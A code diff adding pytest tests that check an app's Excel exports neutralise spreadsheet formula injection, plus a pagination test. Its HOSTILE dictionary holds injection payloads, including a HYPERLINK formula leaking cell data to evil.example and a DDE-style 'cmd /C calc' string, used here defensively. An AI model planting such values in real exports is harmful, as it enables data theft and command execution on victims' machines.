@@ -9,7 +9,7 @@ from decimal import Decimal
 import pytest
 from openpyxl import load_workbook
 
-from app.models import BackgroundTask
+from app.models import BUSINESS_TZ, BackgroundTask
 from app.services.reporting import exports
 from tests.reporting.kpi_month import build_october
 
@@ -182,3 +182,116 @@ def test_exports_are_personal(october, login):
     assert login("cs").get(f"/exports/download/{task}").status_code == 404
     assert login("cs").get(f"/exports/task/{task}/status").status_code == 404
     assert manager.get("/exports/").status_code == 200
+
+
+# Text a spreadsheet would take for a formula (OWASP formula injection).
+HOSTILE = {
+    "name": '=HYPERLINK("http://evil.example/?"&A1,"点此查看")',
+    "expected_solution": "=1+1",
+    "description": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "title": "-2+3",
+    "satisfaction_comment": "+1-1",
+    "contact_person": "\t=1",
+    "result": "\r=2",
+}
+
+
+def _as_text(cell, value) -> None:
+    """Written as text with Excel's quote prefix: shown as is, never evaluated."""
+    # XML turns a carriage return into a line feed when the file is read.
+    assert cell.value == value.replace("\r", "\n")
+    assert cell.data_type == "s", f"{value!r} left as a formula"
+    assert cell.quotePrefix, f"{value!r} has no quote prefix"
+
+
+def _hostile_october(db, october):
+    from sqlalchemy import update
+
+    from app.models import AppUser, Case, Customer
+
+    k1 = october["K1"].id
+    db.session.execute(
+        update(Customer)
+        .where(Customer.id == k1)
+        .values(name=HOSTILE["name"], contact_person=HOSTILE["contact_person"])
+    )
+    db.session.execute(
+        update(Case)
+        .where(Case.id == october["C2"].id)
+        .values(
+            **{
+                k: HOSTILE[k]
+                for k in (
+                    "expected_solution",
+                    "description",
+                    "title",
+                    "satisfaction_comment",
+                    "result",
+                )
+            }
+        )
+    )
+    db.session.execute(
+        update(AppUser)
+        .where(AppUser.username == "ops2")
+        .values(last_name="=", first_name="1+1")
+    )
+    db.session.commit()
+
+
+def test_register_writes_formula_like_text_as_text(db, october, login):
+    _hostile_october(db, october)
+    book = _download(login("manager"), REGISTER, month="2026-10")
+    rows = {row[0].value: row for row in book.worksheets[0].iter_rows(min_row=2)}
+    c2 = rows[october["C2"].number]
+    # Columns: customer, contact person, title, description, expected
+    # solution, owner, result, customer's comment.
+    column = {
+        "name": 3,
+        "contact_person": 4,
+        "title": 11,
+        "description": 12,
+        "expected_solution": 13,
+        "result": 25,
+        "satisfaction_comment": 28,
+    }
+    for key, index in column.items():
+        _as_text(c2[index], HOSTILE[key])
+    _as_text(c2[16], "=1+1")  # ops2's name
+    assert c2[1].data_type == "d" and c2[24].data_type == "n"  # typed as before
+
+
+def test_kpi_report_writes_formula_like_text_as_text(db, october, login):
+    _hostile_october(db, october)
+    book = _download(login("manager"), REPORT, month="2026-10")
+    _, _, by_staff, complaints = book.worksheets
+    customers = [row[0] for row in complaints.iter_rows() if row[0].value]
+    (hostile,) = [c for c in customers if c.value == HOSTILE["name"]]
+    _as_text(hostile, HOSTILE["name"])
+    staff = [row[0] for row in by_staff.iter_rows(min_row=2) if row[0].value == "=1+1"]
+    assert staff
+    for cell in staff:
+        _as_text(cell, "=1+1")
+
+
+def test_register_pages_hold_every_row_once_when_receipt_times_tie(
+    db, october, login, monkeypatch
+):
+    from sqlalchemy import update
+
+    from app.models import Case
+
+    numbers = {october[k].number for k in ("C1", "C2", "C4", "C5", "C6", "C7")}
+    db.session.execute(
+        update(Case)
+        .where(Case.number.in_(numbers))
+        .values(received_at=dt.datetime(2026, 10, 15, 9, 0, tzinfo=BUSINESS_TZ))
+    )
+    db.session.commit()
+    monkeypatch.setattr(exports, "PAGE", 2)
+    book = _download(login("manager"), REGISTER, month="2026-10")
+    listed = [
+        row[0] for row in book.worksheets[0].iter_rows(min_row=2, values_only=True)
+    ]
+    assert len(listed) == len(set(listed)) == 9
+    assert numbers <= set(listed)
